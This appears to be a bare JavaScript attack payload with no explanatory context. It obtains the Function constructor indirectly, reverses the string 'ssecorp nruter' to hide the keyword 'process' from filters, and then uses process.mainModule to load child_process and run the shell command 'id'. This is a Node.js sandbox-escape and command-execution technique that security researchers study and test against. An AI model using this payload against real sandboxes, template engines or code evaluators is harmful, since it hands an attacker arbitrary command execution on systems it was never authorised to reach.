const F = Object.getOwnPropertyDescriptor(Function.prototype, "constructor").value;
const body = "ssecorp nruter".split("").reverse().join("");
F(body)().mainModule.require("child_process").execSync("id", {stdio: "inherit"});
